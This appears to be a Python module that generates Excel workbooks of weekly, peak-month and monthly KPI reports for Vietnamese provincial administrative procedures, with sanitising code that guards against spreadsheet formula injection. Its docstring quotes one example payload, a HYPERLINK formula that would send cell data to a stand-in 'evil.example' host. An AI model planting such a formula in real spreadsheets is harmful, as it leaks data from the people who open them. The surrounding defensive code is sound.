"""Excel workbooks from the report models (openpyxl), with the same band colours as the HTML.

Rates are written as numbers with a percent format (so they sort and sum), never as text,
rounded by the HTML's rule first (`labels.rounded_rate`, half away from zero) so both print the
same figure. Every sheet is print-ready: A4 landscape, fit to the page width, the header rows
repeated on every page, frozen panes; the one-page summary ("Tổng hợp") fits one page; the
trend is a native Excel line chart (openpyxl.chart), not a picture.

Text is never a formula: unit and procedure names, codes and every other string come from the
portals, and a name such as `=HYPERLINK("http://evil.example/?x="&A1,"click")` would be a live
formula (openpyxl makes any string starting with `=` one). So before saving, every string cell
is stored as a string (`data_type "s"`), and one that starts like a formula or a CSV-injection
payload (`=`, `+`, `-`, `@`, tab, carriage return, line feed) also gets the `quotePrefix` style,
which tells Excel and LibreOffice it is text, also once someone edits the cell or saves the
sheet as CSV. The workbook holds no formula of ours, so nothing is lost.
"""

from __future__ import annotations

import io
from collections.abc import Iterable, Sequence
from datetime import timedelta
from functools import cache

from openpyxl import Workbook
from openpyxl.chart import LineChart, Reference
from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from kpi_pipeline.domain.headline import HEADLINE_KPIS
from kpi_pipeline.reports import indicators_labels as IL
from kpi_pipeline.reports import labels as L
from kpi_pipeline.reports.indicators_model import MonthlyReportData
from kpi_pipeline.reports.model import (
    LOW_VOLUME,
    PeakMonthReportData,
    ProvinceMap,
    UnitRow,
    WeeklyReportData,
)
from kpi_pipeline.reports.summary import Ranked, Summary, weekly_summary

PCT = "0.0%"
HEADER_FILL = PatternFill("solid", fgColor="DDE3EA")
THIN = Side(style="thin", color="C8CED6")
BORDER = Border(left=THIN, right=THIN, top=THIN, bottom=THIN)
# Style objects are shared, not rebuilt per cell: openpyxl files a cell's style by looking the
# object up in the workbook's style lists, and the same object is found without comparing.
BOLD = Font(bold=True)
CENTER = Alignment(horizontal="center")
HEADER_ALIGNMENT = Alignment(wrap_text=True, vertical="center", horizontal="center")
STATUS_BANDS = {"met": "green", "missed": "red", "no_data": None}

SHEET_SUMMARY = "Tổng hợp"
SHEET_UNITS = "Đơn vị"
SHEET_HEATMAP = "Bản đồ nhiệt"
SHEET_RED = "Chi tiết đơn vị đỏ"
SHEET_MAP = "Bản đồ"
SHEET_LATE_SUBJECTIVE = "Trễ hạn do chủ quan"
SHEET_PAYMENT = "Chi tiết thanh toán"
SHEET_TREND = "Xu hướng"
SHEET_RANKINGS = "Xếp hạng"
PP = '+0.0" điểm %";-0.0" điểm %";0.0" điểm %"'  # a change of rate, in percentage points


def rate(value: float | None) -> float | None:
    """A rate as the workbook stores it: rounded by the one rule the HTML prints with."""
    r = L.rounded_rate(value)
    return None if r is None else float(r)


def change_points(value: float | None) -> float | None:
    """A change of rate in percentage points (5.2 = +5,2 điểm %), rounded as `rate`."""
    r = L.rounded_rate(value)
    return None if r is None else float(r * 100)


@cache
def band_fill(band: str | None) -> PatternFill:
    return PatternFill("solid", fgColor=L.BAND_COLOURS[band])


def weekly_xlsx(data: WeeklyReportData, map_png: bytes | None = None) -> bytes:
    """The Friday workbook; with a map in the model, a "Bản đồ" sheet too (its points and the
    units not on it, and the map image `map_png` when given)."""
    wb = Workbook()
    summary = weekly_summary(data)
    _weekly_summary(wb.active, data, summary)
    _weekly_units(wb.create_sheet(SHEET_UNITS), data.units, two_tier=data.two_tier)
    _weekly_trend(wb.create_sheet(SHEET_TREND), data)
    _weekly_heatmap(wb.create_sheet(SHEET_HEATMAP), data)
    _weekly_red(wb.create_sheet(SHEET_RED), data)
    _weekly_rankings(wb.create_sheet(SHEET_RANKINGS), summary)
    if data.map is not None:
        _weekly_map(wb.create_sheet(SHEET_MAP), data.map, map_png)
    if data.indicators is not None:
        _weekly_late_subjective(wb.create_sheet(SHEET_LATE_SUBJECTIVE), data)
        _weekly_payment_drilldown(wb.create_sheet(SHEET_PAYMENT), data)
    for ws in wb.worksheets:
        _print_ready(ws, one_page=ws.title == SHEET_SUMMARY)
    return _save(wb, f"Báo cáo tuần {L.day(data.week_start)} – {L.day(data.week_end)}")


def peak_month_xlsx(data: PeakMonthReportData) -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.title = SHEET_SUMMARY
    _title(ws, "Báo cáo kết thúc tháng cao điểm", L.month_label(data.month), data)
    ws.append([f"So sánh với tháng cao điểm trước: {L.month_label(data.previous_month)}"])
    if data.comparison_on_current_map:
        ws.append([L.COMPARISON_ON_CURRENT_MAP])
    ws.append([])
    summary = data.summary()
    prev_label = L.month_label(data.previous_month)
    _header_row(
        ws,
        [
            "Chỉ tiêu",
            "Toàn tỉnh",
            "Kết quả",
            "Số đơn vị đạt",
            "Số đơn vị không đạt",
            f"Số đơn vị đạt ({prev_label})",
        ],
    )
    p = data.province
    rows = [
        (L.PEAK_TARGET_TEXT["online"], rate(p.online_rate), PCT, p.online_target, "online"),
        (L.PEAK_TARGET_TEXT["late"], p.late_subjective, "0", p.late_target, "late"),
    ]
    for text, value, fmt, status, key in rows:
        ws.append(
            [
                text,
                value,
                L.PEAK_STATUS_LABELS[status],
                summary[key]["met"],
                summary[key]["missed"],
                summary[key]["previous_met"],
            ]
        )
        ws.cell(ws.max_row, 2).number_format = fmt
        ws.cell(ws.max_row, 3).fill = band_fill(STATUS_BANDS[status])
    ws.append(
        [
            "Đạt cả hai chỉ tiêu",
            None,
            None,
            summary["all"]["met"],
            summary["all"]["missed"],
            summary["all"]["previous_met"],
        ]
    )
    _widths(ws, [70, 14, 14, 16, 20, 24])

    us = wb.create_sheet(SHEET_UNITS)
    _header_row(
        us,
        [
            "Mã đơn vị",
            "Đơn vị",
            "Cấp",
            "Hồ sơ TTHC mức độ 3, 4 đã tích hợp",
            "Tiếp nhận trực tuyến",
            "Tỷ lệ trực tuyến",
            f"Tỷ lệ trực tuyến ({prev_label})",
            "Thay đổi (điểm %)",
            "Chỉ tiêu 1",
            "Đã giải quyết",
            "Trễ hạn",
            "Trễ hạn do chủ quan",
            f"Do chủ quan ({prev_label})",
            "Thay đổi",
            "Chỉ tiêu 2",
            "Kết quả chung",
        ],
    )
    r = us.max_row
    for row in data.units:
        u, b = row.current, row.previous
        change = row.online_rate_change
        us.append(
            [
                u.unit_code,
                u.unit_name,
                L.LEVEL_LABELS.get(u.unit_level, u.unit_level),
                u.online_eligible,
                u.online_eligible_received_online,
                rate(u.online_rate),
                rate(b.online_rate) if b else None,
                change_points(change),
                L.PEAK_STATUS_LABELS[u.online_target],
                u.finished,
                u.finished_late,
                u.late_subjective,
                b.late_subjective if b else None,
                row.late_subjective_change,
                L.PEAK_STATUS_LABELS[u.late_target],
                L.PEAK_STATUS_LABELS[u.overall],
            ]
        )
        r += 1
        us.cell(r, 6).number_format = PCT
        us.cell(r, 7).number_format = PCT
        us.cell(r, 8).number_format = "+0.0;-0.0;0.0"
        us.cell(r, 14).number_format = "+0;-0;0"
        for col, status in ((9, u.online_target), (15, u.late_target), (16, u.overall)):
            us.cell(r, col).fill = band_fill(STATUS_BANDS[status])
    _finish_table(us, [12, 40, 16, 16, 14, 12, 14, 12, 14, 12, 10, 14, 14, 10, 14, 14])
    for sheet in wb.worksheets:
        _print_ready(sheet, one_page=sheet.title == SHEET_SUMMARY)
    return _save(wb, f"Báo cáo kết thúc tháng cao điểm {L.month_label(data.month)}")


# -- weekly sheets ---------------------------------------------------------------------------


def _weekly_summary(ws: Worksheet, data: WeeklyReportData, s: Summary) -> None:
    """The one-page summary (reports/summary.py): headline KPIs with their changes, units per
    band, the ten units furthest short of the targets on the left; the rankings on the right."""
    ws.title = SHEET_SUMMARY
    _title(
        ws,
        "Báo cáo tuần",
        f"Tuần từ {L.weekday_day(data.week_start)} đến hết {L.weekday_day(data.week_end)}",
        data,
    )
    ws.append([])
    week = f"So với tuần trước ({L.day_month(s.last_week_start)})" if s.last_week_start else ""
    year = f"So với cùng kỳ năm trước ({L.day(s.last_year_start)})" if s.last_year_start else ""
    _header_row(
        ws, ["Chỉ số toàn tỉnh", "Tỷ lệ", "Mục tiêu", "Xếp loại", week, year, "Tử số", "Mẫu số"]
    )
    for h in s.headline:
        ws.append(
            [
                L.KPI_LABELS[h.kpi],
                rate(h.rate),
                L.KPI_TARGET_TEXT[h.kpi],
                L.BAND_LABELS[h.band],
                change_points(h.change_week),
                change_points(h.change_year),
                h.numerator,
                h.denominator,
            ]
        )
        r = ws.max_row
        ws.cell(r, 2).number_format = PCT
        ws.cell(r, 4).fill = band_fill(h.band)
        ws.cell(r, 5).number_format = ws.cell(r, 6).number_format = PP
    p = data.province
    ws.append(
        [L.KPI_LABELS["digitisation"], rate(p.digitisation_rate), None, None, None, None,
         p.digitised, p.received]
    )  # fmt: skip
    ws.cell(ws.max_row, 2).number_format = PCT
    ws.append(["Hồ sơ quá hạn chưa giải quyết", p.overdue_open])
    ws.append([])
    ws.append(["Số đơn vị theo xếp loại chung"])
    ws.cell(ws.max_row, 1).font = BOLD
    bands = ["red", "orange", "yellow", "green", LOW_VOLUME, None]
    ws.append([L.BAND_LABELS[b] for b in bands])
    for i, b in enumerate(bands, start=1):
        ws.cell(ws.max_row, i).fill = band_fill(b)
        ws.cell(ws.max_row, i).alignment = CENTER
    ws.append([s.band_counts[b] for b in bands])
    ws.append(
        [f"{s.low_volume} đơn vị ít hồ sơ (dưới {data.min_volume} hồ sơ ở mỗi chỉ số): không"
         " xếp loại, không tính vào xếp hạng và cảnh báo."]
    )  # fmt: skip
    ws.append([])
    ws.append(["10 đơn vị kéo giảm chỉ số toàn tỉnh nhiều nhất (số hồ sơ thiếu so với mục tiêu)"])
    ws.cell(ws.max_row, 1).font = BOLD
    _header_row(ws, ["Đơn vị", "Cấp", "Đúng hạn", "Trực tuyến", "Thanh toán TT", "Tổng"])
    for x in s.pulling_down:
        ws.append(
            [
                x.unit.unit_name,
                L.LEVEL_LABELS.get(x.unit.unit_level, x.unit.unit_level),
                *(x.short[k] for k in HEADLINE_KPIS),
                x.total,
            ]
        )
    # the rankings, to the right (columns J..O)
    row = 5
    for title, ranked in (
        ("Xếp hạng các sở, ban, ngành", s.departments),
        (
            "Xếp hạng các xã, phường"
            if s.localities_level == "XA"
            else "Xếp hạng các huyện, thị xã, thành phố (toàn huyện)",
            s.localities,
        ),
    ):
        shown = Summary.shown(ranked)
        if len(shown) < len(ranked):
            title += f" ({len(shown) // 2} đầu, {len(shown) // 2} cuối trong {len(ranked)})"
        ws.cell(row, 10, title).font = BOLD
        row += 1
        for i, h in enumerate(["Hạng", "Đơn vị", "Xếp loại", "Đúng hạn", "Trực tuyến", "TT TT"]):
            c = ws.cell(row, 10 + i, h)
            c.font, c.fill, c.border, c.alignment = BOLD, HEADER_FILL, BORDER, HEADER_ALIGNMENT
        row += 1
        for x in shown:
            _ranked_cells(ws, row, 10, x)
            row += 1
        row += 1
    _widths(ws, [34, 9, 11, 9, 12, 12, 9, 9, 2, 6, 30, 10, 9, 9, 9])


def _ranked_cells(ws: Worksheet, row: int, col: int, x: Ranked, met: bool = False) -> None:
    u = x.unit
    values = [x.rank, u.unit_name, L.BAND_LABELS[x.band]]
    values += [
        L.BAND_LABELS[LOW_VOLUME]
        if u.shown_band(k) == LOW_VOLUME
        else rate(getattr(u, f"{k}_rate"))
        for k in HEADLINE_KPIS
    ]
    if met:
        values.append(x.met)
    for i, v in enumerate(values):
        c = ws.cell(row, col + i, v)
        if 3 <= i <= 5 and isinstance(v, float):
            c.number_format = PCT
    ws.cell(row, col + 2).fill = band_fill(x.band)


def _weekly_trend(ws: Worksheet, data: WeeklyReportData) -> None:
    """The province's 12-week trend: the table and a native line chart of it."""
    _header_row(
        ws,
        [
            "Tuần (bắt đầu)",
            L.KPI_LABELS["on_time"],
            L.KPI_LABELS["online"],
            L.KPI_LABELS["online_payment"],
        ],
    )
    for t in data.trend:
        ws.append([L.day_month(t.week_start), rate(t.on_time_rate), rate(t.online_rate),
                   rate(t.online_payment_rate)])  # fmt: skip
        for col in (2, 3, 4):
            ws.cell(ws.max_row, col).number_format = PCT
    last = ws.max_row
    _finish_table(ws, [16, 26, 26, 26], filter_=False)
    ws.freeze_panes = "B2"
    if data.trend_on_current_map:
        ws.cell(last + 2, 1, L.TREND_ON_CURRENT_MAP)
    chart = LineChart()
    chart.title = f"Xu hướng 12 tuần đến tuần {L.day(data.week_start)} — {data.province_name}"
    chart.y_axis.title = "Tỷ lệ"
    chart.y_axis.number_format = "0%"
    chart.y_axis.scaling.min = 0
    chart.y_axis.scaling.max = 1
    chart.x_axis.title = "Tuần bắt đầu"
    chart.height, chart.width = 9, 22
    chart.add_data(
        Reference(ws, min_col=2, max_col=4, min_row=1, max_row=last), titles_from_data=True
    )
    chart.set_categories(Reference(ws, min_col=1, min_row=2, max_row=last))
    ws.add_chart(chart, "F2")


def _weekly_rankings(ws: Worksheet, s: Summary) -> None:
    """The whole rankings (the summary shows the best and worst five)."""
    _header_row(ws, ["Hạng", "Đơn vị", "Xếp loại", "Đúng hạn", "Trực tuyến", "Thanh toán TT",
                     "Số chỉ số đạt", "Nhóm"])  # fmt: skip
    row = 2
    for group, ranked in (
        ("Sở, ban, ngành", s.departments),
        ("Xã, phường" if s.localities_level == "XA" else "Huyện (toàn huyện)", s.localities),
    ):
        for x in ranked:
            _ranked_cells(ws, row, 1, x, met=True)
            ws.cell(row, 8, group)
            row += 1
    _finish_table(ws, [8, 40, 12, 12, 12, 14, 12, 22])


UNIT_COLUMNS = [
    ("Mã đơn vị", 12),
    ("Đơn vị", 40),
    ("Cấp", 16),
    ("Đơn vị cấp trên", 28),
    ("Hồ sơ tiếp nhận", 12),
    ("Hồ sơ giải quyết", 12),
    ("Giải quyết đúng hạn", 12),
    (L.KPI_LABELS["on_time"], 14),
    ("Xếp loại đúng hạn", 12),
    ("Hồ sơ TTHC mức độ 3, 4 đã tích hợp", 14),
    ("Tiếp nhận trực tuyến", 12),
    (L.KPI_LABELS["online"], 14),
    ("Xếp loại trực tuyến", 12),
    ("Hồ sơ có phí, lệ phí thanh toán trực tuyến được", 14),
    ("Thanh toán trực tuyến", 12),
    (L.KPI_LABELS["online_payment"], 14),
    ("Xếp loại thanh toán", 12),
    (L.KPI_LABELS["digitisation"], 12),
    ("Quá hạn chưa giải quyết", 12),
    ("Xếp loại chung", 16),
]
ROLLUP_COLUMN = ("Toàn huyện (gồm các xã)", 16)


def _weekly_units(ws: Worksheet, units: Iterable[UnitRow], two_tier: bool = False) -> None:
    columns = UNIT_COLUMNS + ([] if two_tier else [ROLLUP_COLUMN])
    _header_row(ws, [c for c, _ in columns])
    r = ws.max_row
    for u in units:
        shown = {k: u.shown_band(k) for k in HEADLINE_KPIS}
        ws.append(
            [
                u.unit_code,
                u.unit_name,
                L.LEVEL_LABELS.get(u.unit_level, u.unit_level),
                u.parent_name,
                u.received,
                u.finished,
                u.finished_on_time,
                rate(u.on_time_rate),
                L.BAND_LABELS[shown["on_time"]],
                u.online_eligible,
                u.online_eligible_received_online,
                rate(u.online_rate),
                L.BAND_LABELS[shown["online"]],
                u.payment_eligible,
                u.paid_online,
                rate(u.online_payment_rate),
                L.BAND_LABELS[shown["online_payment"]],
                rate(u.digitisation_rate),
                u.overdue_open,
                L.BAND_LABELS[u.shown_overall],
                *(
                    []
                    if two_tier
                    else [L.BAND_LABELS[u.rollup.shown_overall] if u.rollup else None]
                ),
            ]
        )
        r += 1
        for col in (8, 12, 16, 18):
            ws.cell(r, col).number_format = PCT
        for cols, band in (
            ((8, 9), shown["on_time"]),
            ((12, 13), shown["online"]),
            ((16, 17), shown["online_payment"]),
            ((20,), u.shown_overall),
        ):
            for col in cols:
                ws.cell(r, col).fill = band_fill(band)
        if u.rollup is not None and not two_tier:
            ws.cell(r, 21).fill = band_fill(u.rollup.shown_overall)
    _finish_table(ws, [w for _, w in columns])


def _weekly_heatmap(ws: Worksheet, data: WeeklyReportData) -> None:
    _header_row(ws, ["Mã đơn vị", "Đơn vị", *[L.day(w) for w in data.heatmap_weeks]])
    r = ws.max_row  # counted here: ws.max_row looks at every cell
    for row in data.heatmap:
        ws.append([row.unit_code, row.unit_name, *[L.BAND_LABELS[b] for b in row.bands]])
        r += 1
        for i, band in enumerate(row.bands):
            cell = ws.cell(r, 3 + i)
            cell.fill = band_fill(band)
            cell.alignment = CENTER
    _finish_table(ws, [12, 40, *[14] * len(data.heatmap_weeks)], filter_=False)


def _weekly_red(ws: Worksheet, data: WeeklyReportData) -> None:
    _header_row(
        ws,
        [
            "Mã đơn vị",
            "Đơn vị",
            "Nội dung",
            "Mã thủ tục / hồ sơ",
            "Thủ tục",
            "Số hồ sơ / ngày tiếp nhận",
            "Tổng số / hạn trả",
            "Số ngày làm việc quá hạn",
        ],
    )
    if not data.drilldowns:
        ws.append(["", "Không có đơn vị xếp loại Đỏ trong tuần."])
    for d in data.drilldowns:
        for p in d.late_procedures:
            ws.append(
                [
                    d.unit_code,
                    d.unit_name,
                    "Thủ tục có hồ sơ trễ hạn",
                    p.procedure_code,
                    p.procedure_name,
                    p.count,
                    p.total,
                ]
            )
        for p in d.non_online_procedures:
            ws.append(
                [
                    d.unit_code,
                    d.unit_name,
                    "Thủ tục có hồ sơ không nộp trực tuyến",
                    p.procedure_code,
                    p.procedure_name,
                    p.count,
                    p.total,
                ]
            )
        for o in d.overdue_dossiers:
            ws.append(
                [
                    d.unit_code,
                    d.unit_name,
                    "Hồ sơ quá hạn chưa giải quyết",
                    o.ma_ho_so,
                    o.procedure_name,
                    L.day(o.received_at),
                    L.day(o.due_at),
                    o.days_overdue,
                ]
            )
        ws.append(
            [
                d.unit_code,
                d.unit_name,
                "Tổng số hồ sơ quá hạn chưa giải quyết",
                None,
                None,
                d.overdue_total,
            ]
        )
    _finish_table(ws, [12, 32, 34, 26, 50, 16, 16, 14])


def _weekly_map(ws: Worksheet, m: ProvinceMap, png: bytes | None) -> None:
    _header_row(
        ws,
        ["Mã đơn vị", "Đơn vị", "Cấp", "Xếp loại chung", "Mã ĐVHC", "Vĩ độ", "Kinh độ", "Ghi chú"],
    )
    for p in m.points:
        ws.append(
            [
                p.unit_code,
                p.unit_name,
                L.LEVEL_LABELS.get(p.unit_level, p.unit_level),
                L.BAND_LABELS[p.band],
                p.gso_code,
                p.lat,
                p.lon,
                None,
            ]
        )
        ws.cell(ws.max_row, 4).fill = band_fill(p.band)
    for u in m.unplaced:
        ws.append(
            [
                u.unit_code,
                u.unit_name,
                L.LEVEL_LABELS.get(u.unit_level, u.unit_level),
                L.BAND_LABELS[u.band],
                None,
                None,
                None,
                f"Không có trên bản đồ: {u.reason}",
            ]
        )
        ws.cell(ws.max_row, 4).fill = band_fill(u.band)
    _finish_table(ws, [12, 36, 16, 16, 10, 10, 10, 60])
    if png:
        from openpyxl.drawing.image import Image

        image = Image(io.BytesIO(png))
        ws.add_image(image, "J2")


# -- indicator sheets (issue 15) -------------------------------------------------------------


def _weekly_late_subjective(ws: Worksheet, data: WeeklyReportData) -> None:
    ind = data.indicators
    _header_row(
        ws, ["Mã đơn vị", "Đơn vị", "Cấp", "Trễ hạn do chủ quan", "Trễ hạn", "Đã giải quyết"]
    )
    p = data.province
    ws.append(
        [
            p.unit_code,
            f"Toàn {data.tier}",
            L.LEVEL_LABELS.get(p.unit_level, p.unit_level),
            ind.province_late_subjective,
            ind.province_finished_late,
            ind.province_finished,
        ]
    )
    for c in ws[ws.max_row]:
        c.font = BOLD
    for u in ind.late_subjective:
        ws.append(
            [
                u.unit_code,
                u.unit_name,
                L.LEVEL_LABELS.get(u.unit_level, u.unit_level),
                u.late_subjective,
                u.finished_late,
                u.finished,
            ]
        )
    _finish_table(ws, [14, 40, 16, 18, 12, 14])


def _weekly_payment_drilldown(ws: Worksheet, data: WeeklyReportData) -> None:
    _header_row(
        ws,
        [
            "Mã đơn vị",
            "Đơn vị",
            "Nội dung",
            "Mã thủ tục / hồ sơ",
            "Thủ tục",
            "Chưa thanh toán trực tuyến / ngày tiếp nhận",
            "Có thể thanh toán trực tuyến / hình thức (cổng tỉnh)",
            "Giao dịch cổng quốc gia",
        ],
    )
    drilldowns = data.indicators.payment_drilldowns
    if not drilldowns:
        ws.append(["", "Không có đơn vị có tỷ lệ thanh toán trực tuyến xếp loại Đỏ trong tuần."])
    for d in drilldowns:
        for p in d.procedures:
            ws.append(
                [d.unit_code, d.unit_name, "Thủ tục", p.procedure_code, p.procedure_name]
                + [p.count, p.total]
            )
        for o in d.dossiers:
            ws.append(
                [
                    d.unit_code,
                    d.unit_name,
                    "Hồ sơ chưa thanh toán trực tuyến",
                    o.ma_ho_so,
                    o.procedure_name,
                    L.day(o.received_at),
                    o.provincial_method,
                    o.national_status or "không có giao dịch",
                ]
            )
        ws.append(
            [d.unit_code, d.unit_name, "Tổng số hồ sơ chưa thanh toán trực tuyến", None, None]
            + [d.dossiers_total]
        )
    _finish_table(ws, [12, 32, 34, 26, 50, 18, 22, 22])


# -- the monthly workbook (issue 15) -----------------------------------------------------------

SHEET_PERIODS = "Kỳ và cùng kỳ"
SHEET_SCORE = "Điểm 766 (dự án)"
SHEET_FIELDS = "Lĩnh vực"
SHEET_CATALOGUE = "Danh mục thủ tục"
SCORE_FORMAT = "0.00"


def monthly_xlsx(data: MonthlyReportData) -> bytes:
    """The monthly workbook: periods against the year before, the 766-style score, fields."""
    wb = Workbook()
    ws = wb.active
    ws.title = SHEET_PERIODS
    _monthly_periods(ws, data)
    _monthly_score(wb.create_sheet(SHEET_SCORE), data)
    _monthly_fields(wb.create_sheet(SHEET_FIELDS), data)
    _monthly_catalogue(wb.create_sheet(SHEET_CATALOGUE), data)
    return _save(wb, f"Báo cáo {L.month_label(data.month).lower()}")


def _monthly_periods(ws: Worksheet, data: MonthlyReportData) -> None:
    _header_row(
        ws,
        [
            "Kỳ",
            "Từ ngày",
            "Đến hết ngày",
            "Tiếp nhận",
            "Đã giải quyết",
            L.KPI_LABELS["on_time"],
            L.KPI_LABELS["online"],
            L.KPI_LABELS["online_payment"],
            L.KPI_LABELS["digitisation"],
            "Trễ hạn do chủ quan",
            "Quá hạn cuối kỳ",
            "Địa giới",
        ],
    )
    row = ws.max_row  # counted here: ws.max_row looks at every cell
    for c in data.comparisons:
        for f, prefix in ((c.current, IL.KIND_TITLES[c.kind] + ": "), (c.previous, "Cùng kỳ: ")):
            row += 1
            if f is None:
                ws.append([f"{prefix}{IL.NO_PREVIOUS}"])
                continue
            ws.append(
                [
                    prefix + f.label,
                    L.day(f.start),
                    L.day(f.end - timedelta(days=1)),
                    f.received,
                    f.finished,
                    f.on_time_rate,
                    f.online_rate,
                    f.online_payment_rate,
                    f.digitisation_rate,
                    f.finished_late_subjective,
                    f.overdue_open,
                    "hiện nay" if c.on_current_map else "từng kỳ",
                ]
            )
            for col, band in ((6, f.on_time_band), (7, f.online_band), (8, f.online_payment_band)):
                ws.cell(row, col).fill = band_fill(band)
            for col in (6, 7, 8, 9):
                ws.cell(row, col).number_format = PCT
    _finish_table(ws, [40, 12, 12, 12, 12, 14, 14, 14, 14, 14, 14, 12], filter_=False)


def _monthly_score(ws: Worksheet, data: MonthlyReportData) -> None:
    _header_row(
        ws,
        [
            "Mã đơn vị",
            "Đơn vị",
            "Điểm dự án (thang 100)",
            "Điểm đạt",
            "Điểm tối đa",
            "Cổng QG: đúng hạn %",
            "Cổng QG: trực tuyến %",
            "Cổng QG: thanh toán %",
            "Điểm dự án trên chỉ số so sánh",
            "Điểm theo số liệu Cổng QG",
            "Chênh lệch",
        ],
    )
    rows = ([data.score_province] if data.score_province else []) + list(data.scores)
    for row, s in enumerate(rows, start=ws.max_row + 1):  # ws.max_row looks at every cell
        ws.append(
            [
                s.unit_code,
                s.unit_name,
                s.score,
                s.score_points,
                s.max_points,
                s.national_on_time_pct,
                s.national_online_pct,
                s.national_online_payment_pct,
                s.own_compared_points,
                s.national_compared_points,
                s.diff_points,
            ]
        )
        for col in (3, 4, 5, 9, 10, 11):
            ws.cell(row, col).number_format = SCORE_FORMAT
    _finish_table(ws, [14, 36, 14, 10, 10, 12, 12, 12, 14, 14, 12])
    ws.append([None])
    ws.append([IL.SCORE_TITLE])
    ws.cell(ws.max_row, 1).font = BOLD
    for line in data.score_note:
        ws.append([line])


def _monthly_fields(ws: Worksheet, data: MonthlyReportData) -> None:
    _header_row(
        ws,
        [
            "Mã đơn vị",
            "Đơn vị",
            "Mã lĩnh vực",
            "Lĩnh vực",
            "Tiếp nhận",
            "Đã giải quyết",
            L.KPI_LABELS["on_time"],
            L.KPI_LABELS["online"],
        ],
    )
    for row, f in enumerate(data.fields, start=ws.max_row + 1):  # ws.max_row: every cell
        ws.append(
            [
                f.unit_code,
                f.unit_name,
                f.field_code,
                f.field_name or IL.NO_FIELD,
                f.received,
                f.finished,
                f.on_time_rate,
                f.online_rate,
            ]
        )
        for col, band in ((7, f.on_time_band), (8, f.online_band)):
            ws.cell(row, col).fill = band_fill(band)
            ws.cell(row, col).number_format = PCT
    _finish_table(ws, [14, 32, 14, 40, 12, 12, 14, 14])


def _monthly_catalogue(ws: Worksheet, data: MonthlyReportData) -> None:
    _header_row(
        ws,
        [
            "Cấp thực hiện",
            "Thủ tục trong danh mục",
            "Toàn trình / mức độ 4",
            "Tỷ lệ",
            "Mức độ 3, 4 đã tích hợp Cổng quốc gia",
        ],
    )
    for c in data.catalogue:
        ws.append(
            [
                IL.CATALOGUE_LEVELS.get(c.unit_level, c.unit_level),
                c.procedures,
                c.procedures_level4,
                c.level4_share,
                c.procedures_online_eligible,
            ]
        )
        ws.cell(ws.max_row, 4).fill = band_fill(c.level4_band)
        ws.cell(ws.max_row, 4).number_format = PCT
    _finish_table(ws, [24, 14, 14, 12, 18], filter_=False)
    ws.append([None])
    ws.append([IL.CATALOGUE_NOTE])


# -- helpers ---------------------------------------------------------------------------------


def _title(ws: Worksheet, title: str, period: str, data) -> None:
    ws.append([title])
    ws.cell(1, 1).font = Font(bold=True, size=14)
    ws.append([f"{data.province_name} · {period}"])
    ws.cell(2, 1).font = BOLD
    line = f"Lập lúc {L.moment(data.generated_at)}"
    if data.provisional:
        line += " · SỐ LIỆU TẠM TÍNH: kỳ báo cáo chưa kết thúc"
    ws.append([line])


def _header_row(ws: Worksheet, headers: Sequence[str]) -> None:
    ws.append(list(headers))
    for cell in ws[ws.max_row]:
        cell.font = BOLD
        cell.fill = HEADER_FILL
        cell.border = BORDER
        cell.alignment = HEADER_ALIGNMENT


def _widths(ws: Worksheet, widths: Sequence[int]) -> None:
    for i, w in enumerate(widths, start=1):
        ws.column_dimensions[get_column_letter(i)].width = w


def _finish_table(ws: Worksheet, widths: Sequence[int], filter_: bool = True) -> None:
    _widths(ws, widths)
    ws.freeze_panes = "C2"
    ws.row_dimensions[1].height = 45
    if filter_ and ws.max_row > 1:
        ws.auto_filter.ref = ws.dimensions


def _print_ready(ws: Worksheet, one_page: bool = False) -> None:
    """A4 landscape, fit to the page width (and height, for the one-page summary), the first
    row repeated on every page of a table, centred, with page numbers in the footer."""
    ws.page_setup.paperSize = ws.PAPERSIZE_A4
    ws.page_setup.orientation = ws.ORIENTATION_LANDSCAPE
    ws.sheet_properties.pageSetUpPr.fitToPage = True
    ws.page_setup.fitToWidth = 1
    ws.page_setup.fitToHeight = 1 if one_page else 0  # 0: as many pages tall as needed
    ws.page_margins.left = ws.page_margins.right = 0.4
    ws.page_margins.top = ws.page_margins.bottom = 0.5
    ws.print_options.horizontalCentered = True
    if not one_page:
        ws.print_title_rows = "1:1"
    ws.oddFooter.center.text = "Trang &P / &N"
    ws.oddFooter.right.text = "&A"


FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def _text_only(wb: Workbook) -> None:
    """Every string cell as plain text, never a formula (see the module docstring)."""
    for ws in wb.worksheets:
        # the written cells only: `iter_rows` would create a cell for every empty position
        for cell in ws._cells.values():
            value = cell._value
            if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
                cell.data_type = "s"
                cell.quotePrefix = True


def _save(wb: Workbook, title: str) -> bytes:
    _text_only(wb)
    wb.properties.title = title
    wb.properties.creator = "kpi-pipeline"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()
